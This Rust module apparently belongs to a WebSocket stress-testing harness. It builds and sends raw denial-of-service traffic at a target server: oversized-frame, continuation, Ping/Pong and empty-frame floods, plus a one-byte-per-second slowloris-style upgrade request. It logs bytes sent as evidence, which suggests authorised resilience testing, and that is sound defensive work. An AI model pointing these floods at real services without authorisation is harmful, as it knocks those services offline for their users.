//! The bytes of each attack ([`Attack`]), written as fast as the socket takes
//! them until the phase ends or a write fails.

use std::time::Duration;

use tokio::{io::AsyncWriteExt, net::tcp::OwnedWriteHalf};

use super::{Attack, AttackerLog, Target, evidence::Sent};
use crate::raw_ws::{self, OP_CONTINUATION, OP_PING, OP_PONG, OP_TEXT};

/// Bytes handed to one write of a flood: many frames at once.
pub(super) const BATCH_BYTES: usize = 64 * 1024;

/// Payload of each continuation frame of `continuations`.
const CONTINUATION_BYTES: usize = 1024;

/// Payload of each Ping of `ping-flood`.
const PING_PAYLOAD: &[u8] = b"hostile!";

/// Time between two bytes of `slow-headers`.
const TRICKLE: Duration = Duration::from_secs(1);

/// Writes the attack until the phase ends or a write fails (recorded as the
/// teardown it is).
pub(super) async fn write_script(
    attack: Attack,
    writer: &mut OwnedWriteHalf,
    target: &Target,
    log: &AttackerLog,
    sent: &mut Sent,
) {
    let result = tokio::select! {
        () = log.stop.cancelled() => Ok(()),
        result = script(attack, writer, target, sent) => result,
    };
    if let Err(error) = result {
        log.note_teardown(format!("write failed: {error}"));
    }
}

/// The bytes of each attack. Returns when a script that ends is done (the
/// caller then waits for the end of the phase) or when a write fails.
async fn script(
    attack: Attack,
    writer: &mut OwnedWriteHalf,
    target: &Target,
    sent: &mut Sent,
) -> std::io::Result<()> {
    let text = |fin, payload: &[u8]| raw_ws::frame(fin, OP_TEXT, payload);
    match attack {
        Attack::GiantFrame => {
            let header = raw_ws::frame_header(true, OP_TEXT, 1 << 40);
            // Masked zeros: the key repeated. BATCH_BYTES is a multiple of 4,
            // so every batch lines up with the mask.
            let mut zeros = vec![0u8; BATCH_BYTES];
            raw_ws::mask(&mut zeros, 0);
            flood(writer, &header, 1, &zeros, 0, sent).await
        }
        Attack::Continuations => {
            let chunk = [b'a'; CONTINUATION_BYTES];
            let each = raw_ws::frame(false, OP_CONTINUATION, &chunk);
            let (batch, count) = batch_of(&each);
            flood(writer, &text(false, &chunk), 1, &batch, count, sent).await
        }
        Attack::PongFlood => {
            let (batch, count) = batch_of(&raw_ws::frame(true, OP_PONG, b""));
            flood(writer, &[], 0, &batch, count, sent).await
        }
        Attack::PingFlood => {
            let (batch, count) = batch_of(&raw_ws::frame(true, OP_PING, PING_PAYLOAD));
            flood(writer, &[], 0, &batch, count, sent).await
        }
        Attack::EmptyFrames => {
            let (batch, count) = batch_of(&raw_ws::frame(false, OP_CONTINUATION, b""));
            flood(writer, &text(false, b""), 1, &batch, count, sent).await
        }
        Attack::EmptyTexts => {
            let (batch, count) = batch_of(&text(true, b""));
            flood(writer, &[], 0, &batch, count, sent).await
        }
        Attack::ZeroWindow => {
            for id in &target.asset_ids {
                let subscribe = format!(r#"{{"action":"subscribe","message":{{"assetId":{id}}}}}"#);
                let frame = text(true, subscribe.as_bytes());
                writer.write_all(&frame).await?;
                sent.bytes += frame.len() as u64;
                sent.frames += 1;
            }
            Ok(())
        }
        Attack::SlowHeaders => {
            for byte in raw_ws::upgrade_request(&target.host, &target.path).bytes() {
                writer.write_all(&[byte]).await?;
                sent.bytes += 1;
                tokio::time::sleep(TRICKLE).await;
            }
            Ok(())
        }
        Attack::NoRequest => Ok(()),
    }
}

/// As many copies of `frame` as fit in [`BATCH_BYTES`], and how many.
fn batch_of(frame: &[u8]) -> (Vec<u8>, u64) {
    let count = (BATCH_BYTES / frame.len()).max(1);
    (frame.repeat(count), count as u64)
}

/// Writes `first` once, then `batch` again and again, counting.
async fn flood(
    writer: &mut OwnedWriteHalf,
    first: &[u8],
    first_frames: u64,
    batch: &[u8],
    batch_frames: u64,
    sent: &mut Sent,
) -> std::io::Result<()> {
    writer.write_all(first).await?;
    sent.bytes += first.len() as u64;
    sent.frames += first_frames;
    loop {
        writer.write_all(batch).await?;
        sent.bytes += batch.len() as u64;
        sent.frames += batch_frames;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_flood_batch_is_whole_frames() {
        let frame = raw_ws::frame(true, OP_PONG, b"");
        let (batch, count) = batch_of(&frame);
        assert_eq!(batch.len(), frame.len() * count as usize);
        assert!(batch.len() <= BATCH_BYTES);
    }
}
